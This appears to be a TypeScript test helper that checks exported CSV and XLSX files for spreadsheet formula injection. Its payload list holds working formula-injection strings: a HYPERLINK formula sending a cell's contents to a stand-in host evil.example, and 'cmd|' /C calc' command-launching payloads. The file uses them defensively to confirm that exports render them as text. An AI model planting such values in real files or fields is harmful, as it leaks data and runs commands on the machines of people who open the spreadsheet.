/**
 * Reusable checks for spreadsheet formula injection (OWASP "CSV injection"): which cells of
 * an exported file a spreadsheet would run as a formula. Used by the export tests and by
 * `npm run bench -- security`.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';

/** Values a hostile person could type into a title: each starts as a spreadsheet formula would. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** A cell a spreadsheet would read as a formula (or as the start of one). */
export const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

export interface CheckResult {
  family: string;
  tried: number;
  correct: number;
}

/** The cells of a CSV download (BOM stripped; `;` or `,` as the file uses). */
export function csvCells(text: string): string[][] {
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text;
  const firstLine = body.split(/\r?\n/, 1)[0] ?? '';
  return parse(body, { delimiter: firstLine.includes(';') ? ';' : ',', relax_column_count: true });
}

/** The string cells of every sheet of an XLSX download. */
export async function xlsxCells(bytes: Uint8Array): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const out: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.formula) out.push(`=${cell.formula}`);
        else if (typeof cell.value === 'string') out.push(cell.value);
      }),
    ),
  );
  return out;
}

/**
 * For each payload: the export shows it (so the test is not passing on an empty file) and
 * shows it as text, never as a formula. `cells` are the cells of the exported file.
 */
export function checkCells(
  family: string,
  cells: readonly string[],
  payloads = FORMULA_PAYLOADS,
): CheckResult {
  let correct = 0;
  for (const payload of payloads) {
    const shown = cells.filter((c) => c.endsWith(payload.replace(/^[\t\r]/, '')));
    if (shown.length > 0 && shown.every((c) => !runsAsFormula(c))) correct++;
  }
  return { family, tried: payloads.length, correct };
}
